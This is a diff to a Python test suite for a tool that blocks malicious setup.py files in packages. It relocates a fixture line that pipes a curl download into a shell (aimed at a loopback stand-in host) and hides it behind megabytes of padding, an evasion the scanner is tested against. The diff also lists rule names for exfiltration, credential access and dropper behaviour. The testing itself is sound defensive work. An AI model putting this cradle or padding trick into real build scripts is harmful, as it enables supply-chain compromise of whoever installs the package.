@@ -65,6 +65,17 @@ subprocess.Popen([_exe])
 """
 
 
+CRADLE = 'import os\nos.system("curl -s http://127.0.0.1:9/stage2.sh | sh")\n'
+# The issue's evasion: megabytes of padding around a build script's cradle.
+PADDED_SETUPS = {
+    "a-1-MB-comment-after": CRADLE + "# " + "A" * 1_000_000 + "\n",
+    "a-2-MB-comment-before": "# " + "A" * 2_000_000 + "\n" + CRADLE,
+    "a-giant-literal-before": 'PAD = "' + "x9" * 800_000 + '"\n' + CRADLE,
+    "300000-lines-before": "pass\n" * 300_000 + CRADLE,
+    "a-giant-line-holding-it": "x = 1; " * 200_000 + CRADLE,
+}
+
+
 def findings(proc: subprocess.CompletedProcess[str], name: str) -> set[str]:
     doc: dict[str, Any] = json.loads(proc.stdout)
     for package in doc["packages"]:
@@ -145,8 +156,16 @@ def _blocked_sdist(
         (WEBHOOK_SETUP, {"exfil-endpoint", "install-time-code"}),
         (CREDENTIAL_SETUP, {"credential-access"}),
         (DROPPER_SETUP, {"dropper"}),
+        *((padded, {"install-time-code"}) for padded in PADDED_SETUPS.values()),
     ],
-    ids=["powershell", "decode-exec", "webhook-host-data", "ssh-keys", "download-execute"],
+    ids=[
+        "powershell",
+        "decode-exec",
+        "webhook-host-data",
+        "ssh-keys",
+        "download-execute",
+        *(f"cradle-behind-{padding}" for padding in PADDED_SETUPS),
+    ],
 )
 def test_malicious_setup_py_is_blocked_unbuilt(
     fake_pypi: FakePyPI,
@@ -159,31 +178,6 @@ def test_malicious_setup_py_is_blocked_unbuilt(
 ) -> None:
     rules = _blocked_sdist(fake_pypi, pip_env, make_venv, tmp_path, marker, setup)
     assert expected <= rules
-
-
-CRADLE = 'import os\nos.system("curl -s http://127.0.0.1:9/stage2.sh | sh")\n'
-PADDED_SETUPS = {
-    "a-1-MB-comment-after": CRADLE + "# " + "A" * 1_000_000 + "\n",
-    "a-2-MB-comment-before": "# " + "A" * 2_000_000 + "\n" + CRADLE,
-    "a-giant-literal-before": 'PAD = "' + "x9" * 800_000 + '"\n' + CRADLE,
-    "300000-lines-before": "pass\n" * 300_000 + CRADLE,
-    "a-giant-line-holding-it": "x = 1; " * 200_000 + CRADLE,
-}
-
-
-@pytest.mark.parametrize("setup", PADDED_SETUPS.values(), ids=PADDED_SETUPS.keys())
-def test_padding_cannot_push_install_time_code_out_of_the_analysis(
-    fake_pypi: FakePyPI,
-    pip_env: dict[str, str],
-    make_venv: MakeVenv,
-    tmp_path: Path,
-    marker: Path,
-    setup: str,
-) -> None:
-    """The issue's evasion: a build script that pipes a download into a shell and
-    carries megabytes of padding is read in full, blocked, and nothing runs."""
-    rules = _blocked_sdist(fake_pypi, pip_env, make_venv, tmp_path, marker, setup)
-    assert "install-time-code" in rules or "dropper" in rules
 
 
 def test_unreadable_sdist_is_blocked(
